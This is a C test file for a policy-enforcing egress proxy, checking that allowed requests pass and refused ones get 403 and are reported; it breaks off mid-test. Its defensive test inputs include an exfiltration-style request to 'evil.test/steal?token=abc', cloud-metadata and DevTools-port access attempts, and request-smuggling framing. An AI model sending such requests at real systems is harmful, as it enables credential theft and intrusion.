/*
 * test_proxy.c - the per-session egress proxy against a local upstream
 * on 127.0.0.1: allowed requests pass, are rewritten and counted;
 * refused ones get 403, are reported, and never reach the upstream;
 * CONNECT and Upgrade tunnel both ways; ceilings and the connection
 * limit hold; stop leaves no thread or fd behind.
 *
 * Every address used is 127.0.0.1 (names reach it through the policy's
 * resolver overrides); addresses that must be refused are refused
 * before any connection is made.
 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "policy/egress.h"
#include "policy/proxy-private.h"
#include "test_proxy_server.h"

#include <netinet/in.h>
#include <sys/socket.h>

#define MAX_EVENTS 32

/* Refusals the proxy reported, copied from its thread. */
struct events {
	pthread_mutex_t lock;
	int n;
	char rule[MAX_EVENTS][64];
	char host[MAX_EVENTS][256];
	char addr[MAX_EVENTS][64];
	char url[MAX_EVENTS][512];
	char layer[MAX_EVENTS][16];
	char session[MAX_EVENTS][64];
	char message[MAX_EVENTS][800];
};

static void on_refusal(void *user, const struct policy_refusal *r)
{
	struct events *ev = user;

	pthread_mutex_lock(&ev->lock);
	if (ev->n < MAX_EVENTS) {
		snprintf(ev->rule[ev->n], 64, "%s", r->rule);
		snprintf(ev->host[ev->n], 256, "%s", r->host);
		snprintf(ev->addr[ev->n], 64, "%s", r->addr);
		snprintf(ev->url[ev->n], 512, "%s", r->url);
		snprintf(ev->layer[ev->n], 16, "%s", r->layer);
		snprintf(ev->session[ev->n], 64, "%s", r->session);
		snprintf(ev->message[ev->n], 800, "%s", r->message);
		assert_non_null(r->time);
		assert_true(r->time_unix_ms > 0);
		ev->n++;
	}
	pthread_mutex_unlock(&ev->lock);
}

/* One test's world: an HTTP upstream, an echo upstream, a policy and a
 * proxy. */
struct world {
	struct test_server http;
	struct test_server echo;
	struct policy_egress *policy;
	struct policy_proxy *proxy;
	struct events ev;
	int port; /* the proxy's */
};

/* Starts the upstreams and a proxy with policy_json, in which %d is
 * never used: names map to 127.0.0.1 through "hosts". */
static void world_start(struct world *w, const char *policy_json,
                        const struct policy_proxy_options *opt)
{
	struct policy_proxy_options o;
	json_t *j;
	char err[512] = "";

	memset(w, 0, sizeof(*w));
	pthread_mutex_init(&w->ev.lock, NULL);
	assert_int_equal(ts_start(&w->http, "127.0.0.1", 0, 0), 0);
	assert_int_equal(ts_start(&w->echo, "127.0.0.1", 0, 1), 0);
	j = json_loads(policy_json, 0, NULL);
	assert_non_null(j);
	if (policy_egress_parse(j, &w->policy, err, sizeof(err)) != 0)
		fail_msg("policy: %s", err);
	json_decref(j);
	if (opt)
		o = *opt;
	else
		memset(&o, 0, sizeof(o));
	o.session_id = "sess-1";
	o.on_refusal = on_refusal;
	o.user = &w->ev;
	if (policy_proxy_start(w->policy, &o, &w->proxy, err, sizeof(err)) != 0)
		fail_msg("proxy: %s", err);
	w->port = policy_proxy_port(w->proxy);
	assert_true(w->port > 0);
}

static void world_stop(struct world *w)
{
	policy_proxy_stop(w->proxy);
	ts_stop(&w->http);
	ts_stop(&w->echo);
	policy_egress_free(w->policy);
	pthread_mutex_destroy(&w->ev.lock);
}

/* Sends req (printf format; the upstream ports are available as %1$d for
 * HTTP) on a new connection and reads everything until close. */
static size_t roundtrip(struct world *w, const char *req, char *resp, size_t cap)
{
	int fd = tc_connect(w->port);
	size_t n;

	assert_true(fd >= 0);
	assert_int_equal(ts_send_str(fd, req), 0);
	n = tc_read_all(fd, resp, cap);
	close(fd);
	return n;
}

static const char *const shop_policy =
    "{\"allow\": [\"shop.test:*\", \"*.shop.test:*\"], \"deny\": [\"ads.shop.test\"],"
    " \"allow_private\": [\"127.0.0.1:*\"],"
    " \"hosts\": {\"shop.test\": \"127.0.0.1\", \"ads.shop.test\": \"127.0.0.1\","
    " \"evil.test\": \"127.0.0.1\", \"cdn.shop.test\": \"127.0.0.1\"}}";

static void test_allowed_get_passes_and_is_counted(void **state)
{
	struct world w;
	struct policy_proxy_stats st;
	char req[1024];
	char resp[8192];
	int fd;

	(void)state;
	world_start(&w, shop_policy, NULL);
	fd = tc_connect(w.port);
	assert_true(fd >= 0);
	snprintf(req, sizeof(req),
	         "GET http://shop.test:%d/hello?q=1#frag HTTP/1.1\r\nHost: wrong.test\r\n"
	         "Proxy-Connection: keep-alive\r\nProxy-Authorization: Basic c2VjcmV0\r\n"
	         "Accept: */*\r\n\r\n",
	         w.http.port);
	assert_int_equal(ts_send_str(fd, req), 0);
	assert_true(tc_read_response(fd, resp, sizeof(resp)) > 0);
	assert_non_null(strstr(resp, "HTTP/1.1 200 OK"));
	assert_non_null(strstr(resp, "hello from upstream: /hello?q=1"));
	assert_non_null(strstr(resp, "Connection: keep-alive"));
	assert_int_equal(atomic_load(&w.http.hits), 1);
	/* the upstream saw origin-form, the right Host, no Proxy-* fields */
	pthread_mutex_lock(&w.http.lock);
	assert_true(strncmp(w.http.last_head, "GET /hello?q=1 HTTP/1.1\r\n", 25) == 0);
	snprintf(req, sizeof(req), "\r\nHost: shop.test:%d\r\n", w.http.port);
	assert_non_null(strstr(w.http.last_head, req));
	assert_null(strcasestr(w.http.last_head, "proxy-"));
	assert_null(strstr(w.http.last_head, "wrong.test"));
	assert_non_null(strstr(w.http.last_head, "Accept: */*"));
	pthread_mutex_unlock(&w.http.lock);

	/* the client connection is kept: a POST with a body, then two
	 * pipelined requests in one write */
	snprintf(req, sizeof(req),
	         "POST http://cdn.shop.test:%d/form HTTP/1.1\r\nHost: cdn.shop.test\r\n"
	         "Content-Length: 11\r\n\r\nhello=world",
	         w.http.port);
	assert_int_equal(ts_send_str(fd, req), 0);
	assert_true(tc_read_response(fd, resp, sizeof(resp)) > 0);
	assert_non_null(strstr(resp, "hello from upstream: /form (body 11 bytes)"));
	snprintf(req, sizeof(req),
	         "GET http://shop.test:%d/a HTTP/1.1\r\nHost: shop.test\r\n\r\n"
	         "GET http://shop.test:%d/b HTTP/1.1\r\nHost: shop.test\r\n\r\n",
	         w.http.port, w.http.port);
	assert_int_equal(ts_send_str(fd, req), 0);
	assert_true(tc_read_response(fd, resp, sizeof(resp)) > 0);
	assert_non_null(strstr(resp, "upstream: /a "));
	assert_true(tc_read_response(fd, resp, sizeof(resp)) > 0);
	assert_non_null(strstr(resp, "upstream: /b "));
	close(fd);
	assert_int_equal(atomic_load(&w.http.hits), 4);

	policy_proxy_get_stats(w.proxy, &st);
	assert_int_equal(st.requests, 4);
	assert_int_equal(st.refused, 0);
	assert_int_equal(st.connections, 1);
	assert_true(st.bytes_up > 200);
	assert_true(st.bytes_down > 400);
	assert_int_equal(w.ev.n, 0);
	world_stop(&w);
}

/* A listening socket readied before its proxy starts
 * (policy_proxy_listen_in_netns with no namespace: this process's own), as
 * the warm pool readies one for the session that will take a browser: a
 * client that connects before the proxy runs waits, and is then served
 * under the proxy's policy, as every later one. */
static void test_socket_readied_before_the_proxy(void **state)
{
	struct policy_proxy_options o;
	struct sockaddr_in a;
	socklen_t len = sizeof(a);
	struct world w;
	char req[1024], resp[8192], err[256] = "";
	int lfd = -1, early, fd;

	(void)state;
	memset(&o, 0, sizeof(o));
	assert_int_equal(policy_proxy_listen_in_netns(0, "127.0.0.1", 0, &lfd, err, sizeof(err)),
	                 0);
	assert_true(lfd > 0);
	assert_int_equal(getsockname(lfd, (struct sockaddr *)&a, &len), 0);
	early = tc_connect(ntohs(a.sin_port));
	assert_true(early >= 0);
	o.listen_fd = lfd;
	world_start(&w, shop_policy, &o);
	assert_int_equal(w.port, ntohs(a.sin_port));
	snprintf(req, sizeof(req),
	         "GET http://shop.test:%d/early HTTP/1.1\r\nHost: shop.test\r\n"
	         "Connection: close\r\n\r\n",
	         w.http.port);
	assert_int_equal(ts_send_str(early, req), 0);
	tc_read_all(early, resp, sizeof(resp));
	close(early);
	assert_non_null(strstr(resp, "hello from upstream: /early"));
	fd = tc_connect(w.port);
	assert_true(fd >= 0);
	snprintf(req, sizeof(req),
	         "GET http://evil.test:%d/late HTTP/1.1\r\nHost: evil.test\r\n"
	         "Connection: close\r\n\r\n",
	         w.http.port);
	assert_int_equal(ts_send_str(fd, req), 0);
	tc_read_all(fd, resp, sizeof(resp));
	close(fd);
	assert_non_null(strstr(resp, "HTTP/1.1 403 Forbidden"));
	assert_int_equal(atomic_load(&w.http.hits), 1);
	world_stop(&w);
}

static void test_denied_host_gets_403(void **state)
{
	struct world w;
	struct policy_proxy_stats st;
	char req[1024];
	char resp[8192];

	(void)state;
	world_start(&w, shop_policy, NULL);
	snprintf(req, sizeof(req),
	         "GET http://evil.test:%d/steal?token=abc HTTP/1.1\r\n"
	         "Host: evil.test\r\n\r\n",
	         w.http.port);
	roundtrip(&w, req, resp, sizeof(resp));
	assert_non_null(strstr(resp, "HTTP/1.1 403 Forbidden"));
	assert_non_null(strstr(resp, "X-Glassbox-Rule: egress-not-allowed"));
	assert_non_null(strstr(resp, "(rule egress-not-allowed)"));
	assert_null(strstr(resp, "shop.test")); /* no other policy entry leaks */

	snprintf(req, sizeof(req),
	         "GET http://ads.shop.test:%d/x.js HTTP/1.1\r\n"
	         "Host: ads.shop.test\r\n\r\n",
	         w.http.port);
	roundtrip(&w, req, resp, sizeof(resp));
	assert_non_null(strstr(resp, "HTTP/1.1 403 Forbidden"));
	assert_non_null(strstr(resp, "egress-deny"));

	/* the metadata address, spelled as a number: refused before connecting */
	roundtrip(&w, "GET http://2852039166/latest/meta-data/ HTTP/1.1\r\nHost: x\r\n\r\n", resp,
	          sizeof(resp));
	assert_non_null(strstr(resp, "403"));
	assert_non_null(strstr(resp, "addr-metadata"));

	/* a URL with userinfo reaches the host after the '@' */
	snprintf(req, sizeof(req),
	         "GET http://shop.test@evil.test:%d/ HTTP/1.1\r\n"
	         "Host: shop.test\r\n\r\n",
	         w.http.port);
	roundtrip(&w, req, resp, sizeof(resp));
	assert_non_null(strstr(resp, "403"));

	assert_int_equal(atomic_load(&w.http.hits), 0);
	pthread_mutex_lock(&w.ev.lock);
	assert_int_equal(w.ev.n, 4);
	assert_string_equal(w.ev.rule[0], "egress-not-allowed");
	assert_string_equal(w.ev.host[0], "evil.test");
	assert_string_equal(w.ev.layer[0], "proxy");
	assert_string_equal(w.ev.session[0], "sess-1");
	assert_non_null(strstr(w.ev.url[0], "http://evil.test:"));
	assert_string_equal(w.ev.rule[1], "egress-deny");
	assert_string_equal(w.ev.rule[2], "addr-metadata");
	assert_string_equal(w.ev.addr[2], "169.254.169.254");
	pthread_mutex_unlock(&w.ev.lock);
	policy_proxy_get_stats(w.proxy, &st);
	assert_int_equal(st.refused, 4);
	world_stop(&w);
}

static void test_connect_tunnels_both_ways(void **state)
{
	struct world w;
	struct policy_proxy_stats st;
	char req[256];
	char resp[4096];
	char big[100000];
	char back[100000];
	size_t i;
	int fd;

	(void)state;
	world_start(&w, shop_policy, NULL);
	fd = tc_connect(w.port);
	snprintf(req, sizeof(req), "CONNECT shop.test:%d HTTP/1.1\r\nHost: shop.test:%d\r\n\r\n",
	         w.echo.port, w.echo.port);
	assert_int_equal(ts_send_str(fd, req), 0);
	assert_true(tc_read_response(fd, resp, sizeof(resp)) > 0);
	assert_non_null(strstr(resp, "HTTP/1.1 200 Connection established"));
	for (i = 0; i < sizeof(big); i++)
		big[i] = (char)('a' + i % 26);
	assert_int_equal(ts_send_all(fd, big, sizeof(big)), 0);
	assert_int_equal(tc_read_exact(fd, back, sizeof(back)), 0);
	assert_memory_equal(big, back, sizeof(big));
	/* half-close: the upstream sees EOF, then so do we */
	shutdown(fd, SHUT_WR);
	assert_int_equal(tc_read_all(fd, resp, sizeof(resp)), 0);
	close(fd);
	assert_int_equal(atomic_load(&w.echo.hits), 1);
	policy_proxy_get_stats(w.proxy, &st);
	assert_true(st.bytes_up >= sizeof(big));
	assert_true(st.bytes_down >= sizeof(big));

	/* refused CONNECTs: not on the list, and an address never reachable */
	snprintf(req, sizeof(req), "CONNECT evil.test:%d HTTP/1.1\r\n\r\n", w.echo.port);
	roundtrip(&w, req, resp, sizeof(resp));
	assert_non_null(strstr(resp, "HTTP/1.1 403 Forbidden"));
	assert_non_null(strstr(resp, "egress-not-allowed"));
	roundtrip(&w, "CONNECT [::ffff:169.254.169.254]:443 HTTP/1.1\r\n\r\n", resp, sizeof(resp));
	assert_non_null(strstr(resp, "addr-metadata"));
	roundtrip(&w, "CONNECT shop.test HTTP/1.1\r\n\r\n", resp, sizeof(resp));
	assert_non_null(strstr(resp, "HTTP/1.1 400"));
	assert_int_equal(atomic_load(&w.echo.hits), 1);
	world_stop(&w);
}

static void test_upgrade_tunnels_after_101(void **state)
{
	struct world w;
	char req[512];
	char resp[4096];
	int fd;

	(void)state;
	world_start(&w, shop_policy, NULL);
	fd = tc_connect(w.port);
	snprintf(req, sizeof(req),
	         "GET http://shop.test:%d/ws HTTP/1.1\r\nHost: shop.test\r\n"
	         "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
	         "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n",
	         w.http.port);
	assert_int_equal(ts_send_str(fd, req), 0);
	assert_true(tc_read_response(fd, resp, sizeof(resp)) > 0);
	assert_non_null(strstr(resp, "HTTP/1.1 101"));
	assert_non_null(strstr(resp, "Upgrade: websocket"));
	pthread_mutex_lock(&w.http.lock);
	assert_non_null(strstr(w.http.last_head, "Connection: Upgrade\r\n"));
	assert_non_null(strstr(w.http.last_head, "Upgrade: websocket\r\n"));
	assert_non_null(strstr(w.http.last_head, "Sec-WebSocket-Key: "));
	pthread_mutex_unlock(&w.http.lock);
	assert_int_equal(ts_send_str(fd, "frame-1"), 0);
	assert_int_equal(tc_read_exact(fd, resp, 7), 0);
	assert_memory_equal(resp, "frame-1", 7);
	close(fd);
	world_stop(&w);
}

static void test_loopback_override_needs_naming(void **state)
{
	struct world w;
	char req[512];
	char resp[4096];

	(void)state;
	/* shop.test is allowed, but its override is loopback, not named */
	world_start(&w, "{\"allow\": [\"shop.test:*\"], \"hosts\": {\"shop.test\": \"127.0.0.1\"}}",
	            NULL);
	snprintf(req, sizeof(req), "GET http://shop.test:%d/ HTTP/1.1\r\nHost: shop.test\r\n\r\n",
	         w.http.port);
	roundtrip(&w, req, resp, sizeof(resp));
	assert_non_null(strstr(resp, "HTTP/1.1 403"));
	assert_non_null(strstr(resp, "addr-loopback"));
	assert_non_null(strstr(resp, "resolved to 127.0.0.1"));
	snprintf(req, sizeof(req), "CONNECT shop.test:%d HTTP/1.1\r\n\r\n", w.echo.port);
	roundtrip(&w, req, resp, sizeof(resp));
	assert_non_null(strstr(resp, "addr-loopback"));
	assert_int_equal(atomic_load(&w.http.hits), 0);
	assert_int_equal(atomic_load(&w.echo.hits), 0);
	pthread_mutex_lock(&w.ev.lock);
	assert_int_equal(w.ev.n, 2);
	assert_string_equal(w.ev.rule[0], "addr-loopback");
	assert_string_equal(w.ev.addr[0], "127.0.0.1");
	assert_string_equal(w.ev.host[0], "shop.test");
	pthread_mutex_unlock(&w.ev.lock);
	world_stop(&w);

	/* named: allowed */
	world_start(&w,
	            "{\"allow\": [\"shop.test:*\"], \"allow_private\": [\"127.0.0.0/8:*\"],"
	            " \"hosts\": {\"shop.test\": \"127.0.0.1\"}}",
	            NULL);
	snprintf(req, sizeof(req),
	         "GET http://shop.test:%d/ok HTTP/1.1\r\nHost: shop.test\r\n"
	         "Connection: close\r\n\r\n",
	         w.http.port);
	roundtrip(&w, req, resp, sizeof(resp));
	assert_non_null(strstr(resp, "HTTP/1.1 200 OK"));
	assert_non_null(strstr(resp, "Connection: close"));
	assert_int_equal(atomic_load(&w.http.hits), 1);
	world_stop(&w);
}

/* Threads that refuse ports while the proxy serves. */
struct refuser {
	struct policy_proxy *px;
	int first;
};

static void *refuse_ports_main(void *arg)
{
	struct refuser *r = arg;
	int i;

	for (i = 0; i < 200; i++)
		assert_int_equal(policy_proxy_refuse_port(r->px, r->first + i % 4), 0);
	return NULL;
}

static void test_devtools_port_refused_whatever_the_policy(void **state)
{
	struct world w;
	struct policy_proxy_stats st;
	struct refuser r[4];
	pthread_t t[4];
	/* every spelling of loopback, and a name whose override is loopback */
	const char *const targets[] = { "127.0.0.1",  "127.1",    "2130706433",
		                        "0x7f000001", "dev.test", "[::ffff:127.0.0.1]" };
	char req[512];
	char resp[4096];
	int i;

	(void)state;
	/* the policy allows loopback on every port, by address and by name */
	world_start(&w,
	            "{\"allow_private\": [\"127.0.0.0/8:*\", \"[::1]:*\"],"
	            " \"hosts\": {\"dev.test\": \"127.0.0.1\"}}",
	            NULL);
	assert_int_equal(policy_proxy_refuse_port(NULL, 9222), -POLICY_EINVAL);
	assert_int_equal(policy_proxy_refuse_port(w.proxy, 0), -POLICY_EINVAL);
	assert_int_equal(policy_proxy_refuse_port(w.proxy, 65536), -POLICY_EINVAL);
	/* before: reachable */
	snprintf(req, sizeof(req),
	         "GET http://127.0.0.1:%d/json/version HTTP/1.1\r\n"
	         "Host: 127.0.0.1\r\nConnection: close\r\n\r\n",
	         w.http.port);
	roundtrip(&w, req, resp, sizeof(resp));
	assert_non_null(strstr(resp, "HTTP/1.1 200 OK"));
	assert_int_equal(atomic_load(&w.http.hits), 1);

	/* refused from other threads while the proxy runs, the same port many times */
	for (i = 0; i < 4; i++) {
		r[i].px = w.proxy;
		r[i].first = 20000 + 10 * i;
		assert_int_equal(pthread_create(&t[i], NULL, refuse_ports_main, &r[i]), 0);
	}
	for (i = 0; i < 4; i++)
		pthread_join(t[i], NULL);
	assert_int_equal(policy_proxy_refuse_port(w.proxy, w.http.port), 0);
	assert_int_equal(policy_proxy_refuse_port(w.proxy, w.echo.port), 0);
	assert_int_equal(policy_proxy_refuse_port(w.proxy, w.http.port), 0);

	/* by address, by override, by CONNECT, by Upgrade */
	for (i = 0; i < (int)(sizeof(targets) / sizeof(targets[0])); i++) {
		snprintf(req, sizeof(req),
		         "GET http://%s:%d/json/version HTTP/1.1\r\nHost: x\r\n\r\n", targets[i],
		         w.http.port);
		roundtrip(&w, req, resp, sizeof(resp));
		assert_non_null(strstr(resp, "HTTP/1.1 403 Forbidden"));
		assert_non_null(strstr(resp, "X-Glassbox-Rule: devtools-port"));
		assert_non_null(strstr(resp, "DevTools port"));
	}
	snprintf(req, sizeof(req), "CONNECT 127.0.0.1:%d HTTP/1.1\r\n\r\n", w.echo.port);
	roundtrip(&w, req, resp, sizeof(resp));
	assert_non_null(strstr(resp, "X-Glassbox-Rule: devtools-port"));
	snprintf(req, sizeof(req),
	         "GET http://dev.test:%d/devtools/browser/x HTTP/1.1\r\nHost: x\r\n"
	         "Connection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
	         "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n",
	         w.http.port);
	roundtrip(&w, req, resp, sizeof(resp));
	assert_non_null(strstr(resp, "X-Glassbox-Rule: devtools-port"));
	/* nothing reached either upstream after the refusal */
	assert_int_equal(atomic_load(&w.http.hits), 1);
	assert_int_equal(atomic_load(&w.echo.hits), 0);
	pthread_mutex_lock(&w.ev.lock);
	assert_int_equal(w.ev.n, 8);
	for (i = 0; i < w.ev.n; i++) {
		assert_string_equal(w.ev.rule[i], "devtools-port");
		assert_string_equal(w.ev.layer[i], "proxy");
	}
	assert_string_equal(w.ev.addr[4], "127.0.0.1");
	assert_string_equal(w.ev.host[4], "dev.test");
	pthread_mutex_unlock(&w.ev.lock);
	policy_proxy_get_stats(w.proxy, &st);
	assert_int_equal(st.refused, 8);
	world_stop(&w);
}

static void test_refused_ports_keep_the_latest(void **state)
{
	struct world w;
	char req[512];
	char resp[4096];
	int i;

	(void)state;
	world_start(&w, "{\"allow_private\": [\"127.0.0.1:*\"]}", NULL);
	/* the port of a browser long gone falls out once the list is full */
	assert_int_equal(policy_proxy_refuse_port(w.proxy, w.http.port), 0);
	for (i = 0; i < POLICY_PROXY_REFUSED_PORTS; i++)
		assert_int_equal(policy_proxy_refuse_port(w.proxy, 30000 + i), 0);
	snprintf(req, sizeof(req),
	         "GET http://127.0.0.1:%d/ HTTP/1.1\r\nHost: x\r\n"
	         "Connection: close\r\n\r\n",
	         w.http.port);
	roundtrip(&w, req, resp, sizeof(resp));
	assert_non_null(strstr(resp, "HTTP/1.1 200 OK"));
	/* the latest is refused */
	assert_int_equal(policy_proxy_refuse_port(w.proxy, w.http.port), 0);
	roundtrip(&w, req, resp, sizeof(resp));
	assert_non_null(strstr(resp, "X-Glassbox-Rule: devtools-port"));
	assert_int_equal(atomic_load(&w.http.hits), 1);
	world_stop(&w);
}

static void test_url_is_loopback_port(void **state)
{
	struct policy_egress *p = NULL;
	json_t *j = json_loads("{\"hosts\": {\"dev.test\": \"127.0.0.1\","
	                       " \"pub.test\": \"93.184.216.34\"}}",
	                       0, NULL);
	char err[256];

	(void)state;
	assert_int_equal(policy_egress_parse(j, &p, err, sizeof(err)), 0);
	json_decref(j);
	assert_int_equal(policy_url_is_loopback_port(p, "http://127.0.0.1:9222/json/version", 9222),
	                 1);
	assert_int_equal(
	    policy_url_is_loopback_port(p, "ws://127.0.0.1:9222/devtools/browser/x", 9222), 1);
	assert_int_equal(policy_url_is_loopback_port(p, "http://127.1:9222/", 9222), 1);
	assert_int_equal(policy_url_is_loopback_port(p, "http://2130706433:9222/", 9222), 1);
	assert_int_equal(policy_url_is_loopback_port(p, "http://[::1]:9222/", 9222), 1);
	assert_int_equal(policy_url_is_loopback_port(p, "http://[::ffff:127.0.0.1]:9222/", 9222),
	                 1);
	assert_int_equal(policy_url_is_loopback_port(p, "http://LocalHost.:9222/", 9222), 1);
	assert_int_equal(policy_url_is_loopback_port(p, "http://a.b.localhost:9222/", 9222), 1);
	assert_int_equal(policy_url_is_loopback_port(p, "http://dev.test:9222/", 9222), 1);
	assert_int_equal(policy_url_is_loopback_port(NULL, "http://dev.test:9222/", 9222), 0);
	assert_int_equal(policy_url_is_loopback_port(p, "http://127.0.0.1:9223/", 9222), 0);
	assert_int_equal(policy_url_is_loopback_port(p, "http://127.0.0.1/", 9222), 0);
	assert_int_equal(policy_url_is_loopback_port(p, "http://127.0.0.1/", 80), 1);
	assert_int_equal(policy_url_is_loopback_port(p, "http://pub.test:9222/", 9222), 0);
	assert_int_equal(policy_url_is_loopback_port(p, "http://notlocalhost:9222/", 9222), 0);
	assert_int_equal(policy_url_is_loopback_port(p, "http://10.0.0.1:9222/", 9222), 0);
	assert_int_equal(policy_url_is_loopback_port(p, "file:///etc/passwd", 9222), 0);
	assert_int_equal(policy_url_is_loopback_port(p, "not a url", 9222), 0);
	assert_int_equal(policy_url_is_loopback_port(p, NULL, 9222), 0);
	assert_int_equal(policy_url_is_loopback_port(p, "http://127.0.0.1:9222/", 0), 0);
	policy_egress_free(p);
}

static void test_bad_and_oversized_requests(void **state)
{
	struct world w;
	struct policy_proxy_options o;
	char req[512];
	char resp[4096];
	char *big;
	size_t i;
	int fd;

	(void)state;
	memset(&o, 0, sizeof(o));
	o.max_header_bytes = 8192;
	o.header_timeout_ms = 400;
	world_start(&w, shop_policy, &o);

	/* a head larger than the ceiling: 431, never forwarded */
	big = malloc(20000);
	snprintf(big, 20000, "GET http://shop.test:%d/ HTTP/1.1\r\nX-Big: ", w.http.port);
	for (i = strlen(big); i < 19000; i++)
		big[i] = 'x';
	big[i] = '\0';
	fd = tc_connect(w.port);
	ts_send_str(fd, big); /* may fail part-way once the proxy answers and closes */
	tc_read_all(fd, resp, sizeof(resp));
	close(fd);
	free(big);
	assert_non_null(strstr(resp, "HTTP/1.1 431"));

	/* too many fields */
	big = malloc(8000);
	snprintf(big, 8000, "GET http://shop.test:%d/ HTTP/1.1\r\n", w.http.port);
	for (i = 0; i < 200; i++)
		strcat(big, "A: b\r\n");
	strcat(big, "\r\n");
	roundtrip(&w, big, resp, sizeof(resp));
	free(big);
	assert_non_null(strstr(resp, "HTTP/1.1 431"));

	roundtrip(&w, "GET / HTTP/1.1\r\nHost: shop.test\r\n\r\n", resp, sizeof(resp));
	assert_non_null(strstr(resp, "HTTP/1.1 400"));
	assert_non_null(strstr(resp, "absolute-form"));
	roundtrip(&w, "GET http://shop.test/ HTTP/2.0\r\n\r\n", resp, sizeof(resp));
	assert_non_null(strstr(resp, "HTTP/1.1 400"));
	roundtrip(&w, "GET http://shop.test/ HTTP/1.1\r\n folded: x\r\n\r\n", resp, sizeof(resp));
	assert_non_null(strstr(resp, "HTTP/1.1 400"));
	roundtrip(&w, "GET https://shop.test/ HTTP/1.1\r\n\r\n", resp, sizeof(resp));
	assert_non_null(strstr(resp, "use CONNECT"));
	/* ambiguous framing (request smuggling) */
	snprintf(req, sizeof(req),
	         "POST http://shop.test:%d/ HTTP/1.1\r\nContent-Length: 4\r\n"
	         "Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
	         w.http.port);
	roundtrip(&w, req, resp, sizeof(resp));
	assert_non_null(strstr(resp, "HTTP/1.1 400"));
	snprintf(req, sizeof(req),
	         "POST http://shop.test:%d/ HTTP/1.1\r\nContent-Length: 4\r\n"
	         "Content-Length: 5\r\n\r\nabcde",
	         w.http.port);
	roundtrip(&w, req, resp, sizeof(resp));
	assert_non_null(strstr(resp, "HTTP/1.1 400"));
	/* a head that never ends: 408 after the header timeout */
	fd = tc_connect(w.port);
	ts_send_str(fd, "GET http://shop.test/ HTTP/1.1\r\nHost: sh");
	tc_read_all(fd, resp, sizeof(resp));
	close(fd);
	assert_non_null(strstr(resp, "HTTP/1.1 408"));
	assert_int_equal(atomic_load(&w.http.hits), 0);
	world_stop(&w);
}

static void test_connection_limit(void **state)
{
	struct world w;
	struct policy_proxy_options o;
	struct policy_proxy_stats st;
	char req[512];
	char resp[4096];
	int a;
	int b;
	int c;
	int i;

	(void)state;
	memset(&o, 0, sizeof(o));
	o.max_connections = 2;
	world_start(&w, shop_policy, &o);
	a = tc_connect(w.port);
	b = tc_connect(w.port);
	/* the proxy has accepted both once they are counted open */
	for (i = 0; i < 200; i++) {
		policy_proxy_get_stats(w.proxy, &st);
		if (st.connections_open == 2)
			break;
		usleep(10000);
	}
	assert_int_equal(st.connections_open, 2);
	c = tc_connect(w.port);
	tc_read_all(c, resp, sizeof(resp));
	close(c);
	assert_non_null(strstr(resp, "HTTP/1.1 503"));
	assert_non_null(strstr(resp, "proxy-connection-limit"));
	policy_proxy_get_stats(w.proxy, &st);
	assert_int_equal(st.over_limit, 1);
	pthread_mutex_lock(&w.ev.lock);
	assert_int_equal(w.ev.n, 1);
	assert_string_equal(w.ev.rule[0], "proxy-connection-limit");
	pthread_mutex_unlock(&w.ev.lock);

	/* one closes: a new one is served */
	close(a);
	for (i = 0; i < 200; i++) {
		policy_proxy_get_stats(w.proxy, &st);
		if (st.connections_open == 1)
			break;
		usleep(10000);
	}
	snprintf(req, sizeof(req), "GET http://shop.test:%d/ HTTP/1.1\r\nConnection: close\r\n\r\n",
	         w.http.port);
	roundtrip(&w, req, resp, sizeof(resp));
	assert_non_null(strstr(resp, "HTTP/1.1 200"));
	close(b);
	world_stop(&w);
}

static void test_stop_with_connections_open(void **state)
{
	struct test_server echo;
	struct policy_egress *p = NULL;
	struct policy_proxy *px = NULL;
	struct policy_proxy_options o;
	char err[256];
	char req[256];
	char resp[4096];
	json_t *j;
	int fds0;
	int threads0;
	int tunnel;
	int idle;
	int partial;
	int i;

	(void)state;
	assert_int_equal(ts_start(&echo, "127.0.0.1", 0, 1), 0);
	j = json_loads(shop_policy, 0, NULL);
	assert_int_equal(policy_egress_parse(j, &p, err, sizeof(err)), 0);
	json_decref(j);
	fds0 = count_dir("/proc/self/fd");
	threads0 = threads_quiet();
	memset(&o, 0, sizeof(o));
	assert_int_equal(policy_proxy_start(p, &o, &px, err, sizeof(err)), 0);
	/* one loop thread; the resolver starts only when DNS is needed */
	assert_int_equal(count_dir("/proc/self/task"), threads0 + 1);

	tunnel = tc_connect(policy_proxy_port(px));
	snprintf(req, sizeof(req), "CONNECT shop.test:%d HTTP/1.1\r\n\r\n", echo.port);
	ts_send_str(tunnel, req);
	assert_true(tc_read_response(tunnel, resp, sizeof(resp)) > 0);
	assert_non_null(strstr(resp, " 200 "));
	idle = tc_connect(policy_proxy_port(px));
	partial = tc_connect(policy_proxy_port(px));
	ts_send_str(partial, "GET http://shop.test/ HTTP/1.1\r\n");
	usleep(100000);

	policy_proxy_stop(px);
	/* every client sees its connection closed */
	assert_int_equal(tc_read_all(tunnel, resp, sizeof(resp)), 0);
	assert_int_equal(tc_read_all(idle, resp, sizeof(resp)), 0);
	assert_int_equal(tc_read_all(partial, resp, sizeof(resp)), 0);
	close(tunnel);
	close(idle);
	close(partial);
	/* the upstream's handler sees EOF and ends too: back to where we were */
	for (i = 0; i < 300; i++) {
		if (count_dir("/proc/self/fd") == fds0 && count_dir("/proc/self/task") == threads0)
			break;
		usleep(10000);
	}
	assert_int_equal(count_dir("/proc/self/fd"), fds0);
	assert_int_equal(count_dir("/proc/self/task"), threads0);
	ts_stop(&echo);
	policy_egress_free(p);
	policy_proxy_stop(NULL);
}

static void test_chromium_flags_and_options(void **state)
{
	struct policy_egress *p = NULL;
	struct policy_proxy *px = NULL;
	struct policy_proxy_options o;
	struct policy_chromium_flags f;
	char want[64];
	char err[256] = "";
	int i;
	int seen = 0;

	(void)state;
	assert_int_equal(policy_egress_parse(NULL, &p, err, sizeof(err)), 0);
	memset(&o, 0, sizeof(o));
	assert_int_equal(policy_proxy_start(p, &o, &px, err, sizeof(err)), 0);
	policy_proxy_chromium_flags(px, &f);
	snprintf(want, sizeof(want), "http://127.0.0.1:%d", policy_proxy_port(px));
	assert_string_equal(f.proxy_server, want);
